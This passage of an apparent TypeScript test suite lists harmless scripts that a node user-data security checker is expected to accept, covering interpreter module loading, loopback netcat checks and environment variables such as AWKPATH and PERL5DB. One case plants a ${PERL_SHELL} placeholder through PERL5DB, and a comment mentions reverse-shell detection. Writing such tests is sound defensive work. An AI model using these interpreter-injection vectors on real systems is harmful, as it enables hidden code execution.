    devNodeCase(
        "php -r include (harmless)",
        devNodeScript("dev-s3-nodes", [
            ...written("/opt/h.php", `<?php file_put_contents("/tmp/hello", "hi");`),
            `php -r 'include "/opt/h.php";'`,
        ]),
    ),
    devNodeCase(
        "perl -e 'use JSON::PP' (packaged module)",
        devNodeScript("dev-s21-nodes", [
            `perl -e 'use strict; use JSON::PP; print JSON::PP->new->encode({a => 1})' > /tmp/j`,
        ]),
    ),
    devNodeCase(
        "ruby -e 'require \"json\"' (standard library)",
        devNodeScript("dev-s22-nodes", [`ruby -e 'require "json"; puts JSON.generate({a: 1})' > /tmp/j`]),
    ),
    devNodeCase(
        "perl -I/opt -e 'use Helper' (written, harmless)",
        devNodeScript("dev-s23-nodes", [
            ...written("/opt/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            `perl -I/opt -e 'use Helper; Helper::hi()' > /tmp/h`,
        ]),
    ),
    devNodeCase(
        "perl do BLOCK, eval BLOCK, ->do (no loads)",
        devNodeScript("dev-s24-nodes", [
            `perl -e 'my $x = do { local $/; <STDIN> }; eval { print length $x }; print "ok" if $@ eq ""' < /etc/hostname > /tmp/l`,
        ]),
    ),
    devNodeCase(
        "ruby YAML.load(File.read) (not a code load)",
        devNodeScript("dev-s25-nodes", [
            ...written("/opt/c.yaml", "a: 1"),
            `ruby -r yaml -e 'puts YAML.load(File.read("/opt/c.yaml"))["a"]' > /tmp/a`,
        ]),
    ),
    devNodeCase(
        "php -r require_once written (harmless) and eval of a literal",
        devNodeScript("dev-s26-nodes", [
            ...written("/opt/h.php", `<?php file_put_contents("/tmp/hello", "hi");`),
            `php -r 'require_once "/opt/h.php"; eval("echo 1;");' > /tmp/o`,
        ]),
    ),
    devNodeCase(
        "tclsh namespace eval / uplevel of a braced body",
        devNodeScript("dev-s27-nodes", [
            `tclsh <<< 'namespace eval app { proc hi {} { puts hi } }; uplevel #0 { app::hi }' > /tmp/h`,
        ]),
    ),
    // Was a MISS (fixed in round 67): (secure refused) GNU awk manual "The AWKPATH Environment Variable": `AWKPATH=/opt/awk gawk -i lib` loads
    // the written, harmless /opt/awk/lib.awk (a function library); the pack looks only in cwd and the default path,
    // finds no lib.awk and refuses "-i lib, code user data does not write ... a reverse shell". Read AWKPATH so the
    // written library is judged (it has no socket).
    devNodeCase(
        "AWKPATH written library (harmless)",
        devNodeScript("dev-s4-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/lib.awk", "function twice(x) { return 2 * x }"),
            `AWKPATH=/opt/awk gawk -i lib '{ print twice($2) }' /proc/meminfo > /tmp/m`,
        ]),
        /./,
    ),
    devNodeCase(
        "bash --norc <<EOF (harmless)",
        devNodeScript("dev-s5-nodes", ["bash --norc <<'EOF'", "echo ok > /etc/motd", "EOF"]),
    ),
    devNodeCase(
        "PHP_INI_SCAN_DIR harmless ini",
        devNodeScript("dev-s6-nodes", [
            "mkdir -p /opt/ini",
            "echo 'memory_limit=256M' > /opt/ini/99-app.ini",
            `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo PHP_VERSION;' > /tmp/v`,
        ]),
    ),
    devNodeCase(
        "busybox timeout nc -z loopback",
        devNodeScript("dev-s7-nodes", ["busybox timeout 5 nc -z 127.0.0.1 10248 || true"]),
    ),
    devNodeCase(
        "node net.connect({host:127.0.0.1}) object form",
        devNodeScript("dev-s8-nodes", [
            `node -e 'require("net").connect({ host: "127.0.0.1", port: 10248 }, () => process.exit(0)).on("error", () => process.exit(1))' || true`,
        ]),
    ),
    devNodeCase(
        "xargs -I{} rm -f {}",
        devNodeScript("dev-s9-nodes", ["printf '%s\\n' /tmp/a /tmp/b | xargs -I{} rm -f {}"]),
    ),
    devNodeCase(
        "tclsh eval [read [open written]] (harmless)",
        devNodeScript("dev-s11-nodes", [
            ...written("/opt/h.tcl", "puts [info hostname]"),
            `tclsh <<< 'eval [read [open /opt/h.tcl]]' > /tmp/h`,
        ]),
    ),
    // Round 67 neighbours (node-env).
    devNodeCase(
        "AWKPATH with the default directory; gawk -i assert (shipped)",
        devNodeScript("dev-t1-nodes", [`AWKPATH=/opt/awk:/usr/share/awk gawk -i assert 'BEGIN{}'`]),
    ),
    devNodeCase(
        "AWKLIBPATH with the default directory; gawk -l filefuncs (shipped)",
        devNodeScript("dev-t2-nodes", [`AWKLIBPATH=/opt/ext:/usr/lib64/gawk gawk -l filefuncs 'BEGIN{}'`]),
    ),
    devNodeCase(
        "AWKPATH written harmless @include",
        devNodeScript("dev-t3-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/lib.awk", "function twice(x) { return 2 * x }"),
            `AWKPATH=/opt/awk gawk '@include "lib"\n{ print twice($2) }' /proc/meminfo > /tmp/m`,
        ]),
    ),
    devNodeCase(
        "LUA_CPATH with the default; lua -lcjson (packaged)",
        devNodeScript("dev-t4-nodes", [`LUA_CPATH='/opt/lua/?.so;;' lua -lcjson -e 'print(1)'`]),
    ),
    devNodeCase(
        "TCLLIBPATH with no index written; package require http",
        devNodeScript("dev-t5-nodes", [`TCLLIBPATH=/opt/tcl tclsh <<< 'package require http'`]),
    ),
    devNodeCase(
        "PERL5DB harmless; perl -d",
        devNodeScript("dev-t6-nodes", [`PERL5DB='BEGIN { print STDERR "debug\n" }' perl -d -e 1`]),
    ),
    devNodeCase(
        "PERL5DB set, perl without -d",
        devNodeScript("dev-t7-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -e 1`]),
    ),
    devNodeCase(
        "busybox sh <<EOF (harmless)",
        devNodeScript("dev-t8-nodes", ["busybox sh <<'EOF'", "echo ok > /etc/motd", "EOF"]),
    ),
    devNodeCase(
        "bash --init-file FILE <<EOF (harmless)",
        devNodeScript("dev-t9-nodes", ["bash --init-file /etc/bashrc <<'EOF'", "echo ok > /etc/motd", "EOF"]),
    ),
    devNodeCase(
        "PHP_INI_SCAN_DIR blank entry, harmless ini",
        devNodeScript("dev-t10-nodes", [
            "mkdir -p /opt/ini",
            "echo 'memory_limit=256M' > /opt/ini/99-app.ini",
            `PHP_INI_SCAN_DIR=:/opt/ini php -r 'echo 1;' > /tmp/v`,
        ]),
    ),
];

describeNodeCases("red team 66: node user data (fresh eyes on round 65)", insecure, secure);
